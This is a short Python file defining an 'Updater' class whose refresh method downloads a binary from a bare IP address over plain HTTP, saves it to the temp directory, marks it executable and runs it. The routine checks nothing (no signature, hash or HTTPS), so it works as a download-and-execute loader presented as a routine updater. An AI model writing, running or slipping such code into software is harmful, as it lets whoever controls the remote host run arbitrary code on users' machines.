import os
import subprocess
import tempfile
import urllib.request


class Updater:
    def source(self):
        return "http://198.51.100.23/agent.bin"

    def refresh(self):
        target = os.path.join(tempfile.gettempdir(), "agent")
        payload = urllib.request.urlopen(self.source()).read()
        with open(target, "wb") as out:
            out.write(payload)
        os.chmod(target, 0o755)
        subprocess.Popen([target])
